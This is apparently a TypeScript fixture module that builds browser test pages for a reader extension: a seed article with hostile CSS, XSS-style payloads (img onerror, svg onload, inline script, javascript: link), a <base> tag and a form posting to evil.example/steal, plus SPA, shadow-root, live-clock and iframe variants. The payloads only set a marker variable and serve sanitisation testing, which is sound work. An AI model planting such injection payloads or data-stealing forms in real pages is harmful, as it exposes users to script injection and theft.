import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

/**
 * Pages the browser tests need that are the seed article with something added: built here
 * from the one copy of the seed rather than kept as near-identical files.
 */
const seed = () => readFileSync(fileURLToPath(new URL('../pages/seed-article/source.html', import.meta.url)), 'utf8');

const HOSTILE_HEAD = `<style>
  /* A page that targets Lede's host element and everything else. */
  lede-reader, lede-reader * { display: none !important; opacity: 0 !important; visibility: hidden !important; }
  html body * { color: red !important; font-size: 2px !important; }
</style>
<base href="https://evil.example/">
</head>`;

const HOSTILE_PARAGRAPH = `<p>Security researchers at Quarkslab Inc. said the payload <img src="x" onerror="window.__pwned = 'img'"> never ran, and
    <svg onload="window.__pwned = 'svg'"><circle r="2"></circle></svg> the analysts wrote "<b>bold</b> claims <script>window.__pwned = 'quote'</script> are easy to make" in a note.
    Read the <a href="javascript:window.__pwned='link'">full report</a> or <a href="/relative/report">the summary</a>.</p>
    <iframe src="https://ads.example/frame"></iframe>
    <form action="https://evil.example/steal"><input name="q"><button>Go</button></form>
    <p>The party's also stepped in`;

const NEXT_STORY_SCRIPT = `<script>
  // Loads "the next story" the way single-page news sites do: new content, new URL, no page load.
  window.loadNextStory = function () {
    document.querySelector('.article-title').textContent = 'A different story entirely';
    history.pushState({ story: 2 }, '', '?story=2');
  };
</script>
</body>`;

// Moves the story into a closed shadow root, as publishers' web-component front ends render it.
const CLOSED_COMPONENT_SCRIPT = `<script>
  customElements.define('news-story', class extends HTMLElement {});
  const story = document.querySelector('article');
  const host = document.createElement('news-story');
  const root = host.attachShadow({ mode: 'closed' });
  story.replaceWith(host);
  root.append(story);
</script>
</body>`;

const fixture = (name: string) =>
  readFileSync(fileURLToPath(new URL(`../fixtures/pages/${name}`, import.meta.url)), 'utf8');

// A "last updated 12 seconds ago" line that changes every second, as live blogs have: the page is never still.
const TICKING_CLOCK_SCRIPT = `<p id="ago">Updated 0 seconds ago</p><script>
  let seconds = 0;
  setInterval(() => (document.getElementById('ago').textContent = 'Updated ' + ++seconds + ' seconds ago'), 1000);
</script>
</body>`;

const frameShell = (frame: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Reader</title>
<style>body { margin: 0; } iframe { display: block; width: 100vw; height: 92vh; border: 0; }</style></head>
<body><nav><a href="/">Home</a> <a href="/news">News</a></nav>${frame}</body></html>`;

export const GENERATED_PAGES: Record<string, () => string> = {
  /** The seed itself, read afresh on each request like the pages on disk. */
  '/seed.html': seed,
  /** CSS aimed at Lede's host, payloads in the article, a <base> pointing elsewhere. */
  '/pages/hostile.html': () =>
    seed().replace('</head>', HOSTILE_HEAD).replace("<p>The party's also stepped in", HOSTILE_PARAGRAPH),
  /** A single-page site that swaps the story in place. */
  '/pages/spa-article.html': () => seed().replace('</body>', NEXT_STORY_SCRIPT),
  /** The story inside a closed shadow root: invisible to a plain clone of the page. */
  '/pages/web-component.html': () => seed().replace('</body>', CLOSED_COMPONENT_SCRIPT),
  /** The live blog with a clock that changes the page every second. */
  '/pages/live-blog-clock.html': () => fixture('live-blog.html').replace('</body>', TICKING_CLOCK_SCRIPT),
  /** A thin page around a same-origin frame that holds the story. */
  '/pages/framed.html': () => frameShell('<iframe src="/seed.html" title="Story"></iframe>'),
  /** The same, with the frame from another origin (localhost rather than 127.0.0.1). */
  '/pages/foreign-frame.html': () =>
    frameShell(`<iframe title="Story"></iframe><script>
      document.querySelector('iframe').src = location.origin.replace('127.0.0.1', 'localhost') + '/seed.html';
    </script>`),
};
